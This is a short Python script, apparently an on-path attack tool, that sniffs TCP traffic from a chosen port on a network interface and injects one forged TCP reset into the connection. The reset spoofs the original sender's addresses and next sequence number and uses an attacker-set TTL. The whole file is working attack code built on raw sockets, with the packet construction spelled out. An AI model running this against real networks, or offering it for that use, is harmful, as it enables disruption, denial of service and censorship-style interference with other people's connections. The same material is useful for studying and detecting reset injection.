"""A machine on the way that resets a connection in the name of one side, and takes care to look like it.

forge INTERFACE PORT TTL  sees data come from PORT on INTERFACE, and sends one reset of its own behind the third
"""

import socket
import struct
import sys


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def data_from(interface, port):
    """The IPv4 and TCP headers of segments with data, and how long the data are."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as seen:
        seen.bind((interface, 0x0800))
        while True:
            packet = seen.recv(65535)
            head = (packet[0] & 15) * 4
            if packet[9] != socket.IPPROTO_TCP:
                continue
            offset = head + (packet[head + 12] >> 4) * 4
            length = struct.unpack("!H", packet[2:4])[0] - offset
            if struct.unpack("!H", packet[head : head + 2])[0] == port and length > 0:
                yield packet[:head], packet[head:offset], length


def reset(ip, tcp, length, ttl):
    """A reset of the same connection, without the DF bit and the id that its host would give it."""
    ports, seq = tcp[:4], struct.unpack("!L", tcp[4:8])[0] + length & 0xFFFFFFFF
    segment = ports + struct.pack("!LLBBHHH", seq, 0, 5 << 4, 4, 8192, 0, 0)
    pseudo = ip[12:20] + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment))
    segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
    total = 20 + len(segment)
    return struct.pack("!BBHHHBBH", 0x45, 0, total, 1, 0, ttl, 6, 0) + ip[12:20] + segment


def forge(interface, port, ttl):
    for number, (ip, tcp, length) in enumerate(data_from(interface, port)):
        if number == 2:
            with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
                out.sendto(reset(ip, tcp, length, ttl), (socket.inet_ntoa(ip[16:20]), 0))
            return


if __name__ == "__main__":
    forge(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
